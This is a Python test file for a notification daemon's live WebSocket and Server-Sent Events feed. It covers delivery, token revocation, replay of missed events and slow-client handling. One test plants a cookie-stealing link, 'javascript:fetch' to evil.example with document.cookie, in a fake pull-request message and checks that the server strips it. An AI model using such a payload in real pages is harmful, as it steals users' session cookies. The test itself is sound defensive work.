"""The live feed: WebSocket and Server-Sent Events clients against a running server."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientWebSocketResponse, WSCloseCode, WSMsgType
from core.test_outbox import add_message, add_notification, add_user
from corpus import corpus_lines
from sqlalchemy import update

from daemon.test_http import http_config, run, serving, sqlite_database
from fmn_core import preferences
from fmn_core.db import Database
from fmn_core.display import SUMMARY_MAX_CHARS
from fmn_core.models import Notification, User, utcnow
from fmn_daemon.delivery import Senders
from fmn_daemon.metrics import Metrics
from fmn_daemon.transports.live import LIVE_POLL_SECONDS, LiveHub

TOKEN = "live-token-jo-aaaaaaaaaaaaaaaa"
EVENT_KEYS = {"id", "topic", "summary", "url", "app", "filter", "created"}


@pytest.fixture
def live_db(tmp_path: Path) -> Database:
    db = sqlite_database(tmp_path)
    with db.begin() as session:
        add_user(session, "jo", "live", (TOKEN,))
        add_user(session, "al", "live", ("live-token-al-bbbbbbbbbbbbbbbb",))
    return db


def queue_for(db: Database, user: str, count: int = 1, **values: Any) -> list[int]:
    with db.begin() as session:
        row = session.query(User).filter_by(name=user).one()
        return [add_notification(session, row, "live", **values).id for _ in range(count)]


async def _wait_subscribed(hub: LiveHub, token: str) -> None:
    for _ in range(200):
        if hub.subscribers(token):
            return
        await asyncio.sleep(0.01)
    raise AssertionError("the client never subscribed")


def test_live_websocket_gets_each_delivered_notification(live_db: Database) -> None:
    config = http_config(live_db)
    hub = LiveHub()
    mine = queue_for(live_db, "jo", 2)
    queue_for(live_db, "al")

    async def scenario() -> list[dict[str, Any]]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}") as socket,
        ):
            await _wait_subscribed(hub, TOKEN)
            await Senders(live_db, config, Metrics(), hub).drain(10)
            events = [await socket.receive_json(timeout=5) for _ in range(2)]
            await socket.close()
        return events

    events = run(scenario)
    assert sorted(e["id"] for e in events) == mine
    assert all(set(e) >= EVENT_KEYS for e in events)
    assert events[0]["topic"] == "org.fedoraproject.prod.bodhi.buildroot_override.tag"
    assert events[0]["filter"] == "my packages"
    assert hub.subscribers() == 0


def test_live_sse_streams_events(live_db: Database) -> None:
    config = http_config(live_db)
    hub = LiveHub()
    (row,) = queue_for(live_db, "jo")

    async def scenario() -> tuple[str, list[str]]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.get(f"{base}/live/sse/{TOKEN}") as response,
        ):
            content_type = response.headers["Content-Type"]
            await _wait_subscribed(hub, TOKEN)
            await Senders(live_db, config, Metrics(), hub).drain(10)
            lines: list[str] = []
            while not any(line.startswith("data: ") for line in lines):
                raw = await asyncio.wait_for(response.content.readline(), 5)
                lines.append(raw.decode().rstrip("\n"))
        return content_type, lines

    content_type, lines = run(scenario)
    assert content_type.startswith("text/event-stream")
    assert f"id: {row}" in lines and "event: notification" in lines
    data = json.loads(next(line for line in lines if line.startswith("data: "))[6:])
    assert data["id"] == row and set(data) >= EVENT_KEYS


def test_live_unknown_token_is_not_found(live_db: Database) -> None:
    config = http_config(live_db)

    async def scenario() -> list[int]:
        async with serving(config, live_db) as (base, client):
            statuses = []
            for path in ("/live/ws/nope-nope-nope-nope", "/live/sse/nope-nope-nope-nope"):
                async with client.get(f"{base}{path}") as response:
                    statuses.append(response.status)
            # A feed token is not a live token.
            async with client.get(f"{base}/live/sse/{TOKEN[:-1]}x") as response:
                statuses.append(response.status)
        return statuses

    assert run(scenario) == [404, 404, 404]


def test_live_since_replays_what_the_client_missed(live_db: Database) -> None:
    config = http_config(live_db)
    now = utcnow()
    first, second, third = queue_for(
        live_db, "jo", 3, state="sent", sent_at=now - dt.timedelta(minutes=5)
    )

    async def scenario() -> list[int]:
        async with (
            serving(config, live_db) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}?since={first}") as socket,
        ):
            events = [await socket.receive_json(timeout=5) for _ in range(2)]
            await socket.close()
        return [e["id"] for e in events]

    assert run(scenario) == [second, third]


def test_live_client_gets_rows_another_daemon_sent(live_db: Database) -> None:
    config = http_config(live_db)
    hub = LiveHub()
    (row,) = queue_for(live_db, "jo")

    async def scenario() -> dict[str, Any]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}") as socket,
        ):
            await _wait_subscribed(hub, TOKEN)
            # Another daemon delivered it: nothing reaches this process's hub.
            with live_db.begin() as session:
                session.execute(
                    update(Notification)
                    .where(Notification.id == row)
                    .values(state="sent", sent_at=utcnow())
                )
            event: dict[str, Any] = await socket.receive_json(timeout=8)
            await socket.close()
        return event

    assert run(scenario)["id"] == row


def _replace_token(db: Database) -> str:
    """jo removes the live token (it leaked) and makes a new one, as the TUI or bot do."""
    with db.begin() as session:
        actor = preferences.Actor("jo")
        (old,) = preferences.get_context(session, actor, "live").destinations
        preferences.remove_destination(session, actor, "live", old.id)
        return preferences.set_destination(session, actor, "live", None).destination.address


def test_live_websocket_ends_when_its_token_is_removed(live_db: Database) -> None:
    config = http_config(live_db)
    hub = LiveHub()

    async def scenario() -> tuple[Any, list[int], int]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}") as leaked,
        ):
            await _wait_subscribed(hub, TOKEN)
            new_token = _replace_token(live_db)
            (row,) = queue_for(live_db, "jo")
            await Senders(live_db, config, Metrics(), hub).drain(10)
            assert hub.subscribers(new_token) == 0
            # What the old connection gets next: its end, within a poll or two,
            # and never the notification sent to the new token.
            received = []
            while (message := await leaked.receive(timeout=4 * LIVE_POLL_SECONDS)).type is (
                WSMsgType.TEXT
            ):
                received.append(json.loads(message.data)["id"])
            assert row not in received
            return message, received, leaked.close_code or 0

    message, received, code = run(scenario)
    assert message.type in (WSMsgType.CLOSE, WSMsgType.CLOSED)
    assert code == WSCloseCode.POLICY_VIOLATION
    assert received == []


def test_live_sse_ends_when_its_token_is_removed(live_db: Database) -> None:
    config = http_config(live_db)
    hub = LiveHub()

    async def scenario() -> tuple[list[str], int]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.get(f"{base}/live/sse/{TOKEN}") as leaked,
        ):
            await _wait_subscribed(hub, TOKEN)
            _replace_token(live_db)
            (row,) = queue_for(live_db, "jo")
            await Senders(live_db, config, Metrics(), hub).drain(10)
            # The response ends (EOF) instead of carrying the new token's rows.
            body = await asyncio.wait_for(leaked.content.read(), 4 * LIVE_POLL_SECONDS)
            async with client.get(f"{base}/live/sse/{TOKEN}") as again:
                status = again.status
        return [line for line in body.decode().splitlines() if str(row) in line], status

    leaked_lines, status = run(scenario)
    assert leaked_lines == []
    assert status == 404


def _pagure_pull_request(title: str, full_url: str) -> dict[str, Any]:
    """A real Pagure pull-request.new message whose author chose the title and link."""
    line = next(
        line
        for line in corpus_lines()
        if '"org.fedoraproject.prod.pagure.pull-request.new"' in line
    )
    data = json.loads(line)
    data["body"]["pullrequest"]["title"] = title
    data["body"]["pullrequest"]["full_url"] = full_url
    return {key: data[key] for key in ("id", "topic", "body", "headers")}


def test_live_pushes_what_its_catch_up_would_show_of_a_hostile_message(
    live_db: Database,
) -> None:
    """A pushed event is bounded and linked as the catch-up shows the same row: no
    javascript: link for a web client to follow, no summary of the body's size."""
    config = http_config(live_db)
    hub = LiveHub()
    hostile = _pagure_pull_request(
        "A" * 3_000, "javascript:fetch('//evil.example/'+document.cookie)"
    )
    with live_db.begin() as session:
        jo = session.query(User).filter_by(name="jo").one()
        row = add_notification(session, jo, "live", add_message(session, hostile)).id

    async def scenario() -> tuple[dict[str, Any], dict[str, Any]]:
        async with serving(config, live_db, live=hub) as (base, client):
            async with client.ws_connect(f"{base}/live/ws/{TOKEN}") as socket:
                await _wait_subscribed(hub, TOKEN)
                await Senders(live_db, config, Metrics(), hub).drain(10)
                pushed: dict[str, Any] = await socket.receive_json(timeout=5)
            async with client.ws_connect(f"{base}/live/ws/{TOKEN}?since=0") as socket:
                caught_up: dict[str, Any] = await socket.receive_json(timeout=5)
        return pushed, caught_up

    pushed, caught_up = run(scenario)
    assert pushed["id"] == caught_up["id"] == row
    assert pushed["url"] is None and caught_up["url"] is None
    assert len(pushed["summary"]) == len(caught_up["summary"]) == SUMMARY_MAX_CHARS
    assert pushed["summary"] == caught_up["summary"]
    assert "opened a pull-request" in pushed["summary"] and pushed["summary"].endswith("A…")


def test_live_hub_fans_out_and_drops_oldest_for_slow_clients() -> None:
    hub = LiveHub(queue_size=2)

    async def scenario() -> None:
        with hub.subscribe("t") as one, hub.subscribe("t") as two, hub.subscribe("u") as other:
            assert hub.subscribers("t") == 2 and hub.subscribers() == 3
            assert hub.publish("t", [{"id": 1}, {"id": 2}, {"id": 3}]) == 2
            assert [one.queue.get_nowait()["id"] for _ in range(2)] == [2, 3]
            assert one.dropped == 1 and two.queue.qsize() == 2
            assert other.queue.empty()
        assert hub.subscribers() == 0
        assert hub.publish("t", [{"id": 4}]) == 0

    asyncio.run(scenario())


async def _ids_received(
    socket: ClientWebSocketResponse, wait: float = 1.0, count: int | None = None
) -> list[int]:
    """The ids a client receives until ``wait`` seconds pass quietly (or ``count`` came)."""
    ids: list[int] = []
    while count is None or len(ids) < count:
        try:
            ids.append((await socket.receive_json(timeout=wait))["id"])
        except TimeoutError:
            break
    return ids


def _mark_sent(db: Database, ids: list[int], at: dt.datetime) -> None:
    with db.begin() as session:
        session.execute(
            update(Notification).where(Notification.id.in_(ids)).values(state="sent", sent_at=at)
        )


def test_live_catch_up_sends_every_page_oldest_first(live_db: Database) -> None:
    """A client away for more than a page gets all it missed, not only the newest page."""
    config = http_config(live_db)
    rows = queue_for(live_db, "jo", 121, state="sent", sent_at=utcnow() - dt.timedelta(minutes=5))

    async def scenario() -> list[int]:
        async with (
            serving(config, live_db) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}?since={rows[0]}") as socket,
        ):
            return await _ids_received(socket)

    assert run(scenario) == rows[1:]


def test_live_catch_up_follows_the_order_rows_were_sent_not_their_ids(
    live_db: Database,
) -> None:
    """A digest (or a retry) sends a lower id after a higher one: the client that saw
    the higher one gets the lower one, and the client that saw the late lower one last
    does not get the higher one again."""
    config = http_config(live_db)
    late, early = queue_for(live_db, "jo", 2)
    now = utcnow()
    _mark_sent(live_db, [early], now - dt.timedelta(minutes=10))
    _mark_sent(live_db, [late], now - dt.timedelta(minutes=5))

    async def scenario() -> tuple[list[int], list[int]]:
        async with serving(config, live_db) as (base, client):
            async with client.ws_connect(f"{base}/live/ws/{TOKEN}?since={early}") as socket:
                after_early = await _ids_received(socket)
            headers = {"Last-Event-ID": str(late)}
            after_late = []
            async with client.get(f"{base}/live/sse/{TOKEN}", headers=headers) as response:
                with contextlib.suppress(TimeoutError):
                    while True:
                        line = await asyncio.wait_for(response.content.readline(), 1.0)
                        if line.startswith(b"id: "):
                            after_late.append(int(line[4:]))
        return after_early, after_late

    assert run(scenario) == ([late], [])


def test_live_quick_reconnect_does_not_repeat_what_the_client_had(live_db: Database) -> None:
    """The polls look back a few seconds for other daemons' rows; a client back with its
    last id within those seconds must not get the rows up to it again."""
    config = http_config(live_db)
    rows = queue_for(live_db, "jo", 2, state="sent", sent_at=utcnow())

    async def scenario() -> list[int]:
        async with (
            serving(config, live_db) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}?since={rows[-1]}") as socket,
        ):
            return await _ids_received(socket, wait=1.5 * LIVE_POLL_SECONDS)

    assert run(scenario) == []


def test_live_client_whose_queue_overflowed_still_gets_every_row(live_db: Database) -> None:
    """A digest larger than a client's queue drops the oldest events from it; the next
    poll finds them in the database, however many they are."""
    config = http_config(live_db)
    hub = LiveHub(queue_size=5)
    rows = queue_for(live_db, "jo", 70, state="sent", sent_at=utcnow())

    async def scenario() -> list[int]:
        async with (
            serving(config, live_db, live=hub) as (base, client),
            client.ws_connect(f"{base}/live/ws/{TOKEN}") as socket,
        ):
            await _wait_subscribed(hub, TOKEN)
            hub.publish(TOKEN, [{"id": row} for row in rows])
            return await _ids_received(socket, wait=1.5 * LIVE_POLL_SECONDS, count=len(rows))

    received = run(scenario)
    assert sorted(received) == rows
